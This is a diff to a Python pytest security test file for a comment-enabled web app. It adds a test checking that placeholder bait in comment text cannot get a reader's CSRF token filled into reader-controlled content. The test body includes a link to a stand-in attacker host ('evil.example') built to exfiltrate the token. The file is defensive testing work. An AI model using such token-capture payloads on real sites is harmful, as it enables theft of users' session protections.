@@ -8,10 +8,11 @@ column for executable markup.
 from __future__ import annotations
 
 import json
+import re
 
 import pytest
 
-from tests.conftest import Reader, write_case
+from tests.conftest import Reader, csrf_token_from, write_case
 from tests.security.conftest import OPEN, World, build_world, latest_comment, post_comment
 from tests.security.tools import assert_refused, executable_markup, feed_markup, snapshot
 
@@ -169,3 +170,19 @@ def test_case_file_fields(make_site, dilemmas_dir, payload):
     assert_inert_everywhere(world, "ond-titel")
     api = world.stranger.client.get("/api/dilemmas/ond-titel")
     assert api.is_json and api.get_json()  # data, not markup: escaping is the reader's job
+
+
+@pytest.mark.parametrize("bait", ["__comment-html-csrf-token__", "<!--csrf-token-->",
+                                  "{{ csrf_token() }}"])
+def test_comment_text_cannot_capture_a_readers_csrf_token(world, bait):
+    """Cached comment HTML gets each reader's token filled in: never inside reader text."""
+    reader = new_voter(world)
+    body = f"Se [her](https://evil.example/?t={bait}) og {bait}"
+    assert post_comment(reader, OPEN, body, name=f"Navn {bait}").status_code == 303
+    for viewer in (world.stranger, world.author, reader):
+        page = viewer.client.get(f"/dilemmas/{OPEN}").get_data(as_text=True)
+        token = csrf_token_from(page)
+        start = page.index('id="comments"')
+        outside_forms = re.sub(r'<input type="hidden" name="csrf_token" value="[^"]*">', "",
+                               page[start:])
+        assert token not in outside_forms
